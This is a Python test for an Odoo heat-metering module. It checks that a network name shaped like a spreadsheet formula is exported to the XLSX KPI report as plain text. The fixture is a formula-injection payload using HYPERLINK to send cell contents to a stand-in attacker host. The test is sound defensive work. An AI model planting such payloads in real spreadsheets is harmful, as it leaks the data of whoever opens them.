# Copyright 2026 La Boite Commune
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
import io
from datetime import date

import openpyxl

from odoo.tests import tagged

from .common import HeatMeteringCommon


@tagged("post_install", "-at_install")
class TestHeatNetworkKpiXlsx(HeatMeteringCommon):
    def test_network_named_like_a_formula_stays_text(self):
        formula = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
        self.network.name = formula
        kpis = self.env["heat.network.kpi"]._heat_refresh(
            self.network, date(2024, 1, 1), date(2024, 1, 31)
        )
        content, _kind = self.env["ir.actions.report"]._render(
            "heat_metering.heat_network_kpi_xlsx_report", kpis.ids
        )
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cell = sheet.cell(2, 1)  # the network column
        self.assertEqual(cell.value, formula)
        self.assertEqual(cell.data_type, "s")
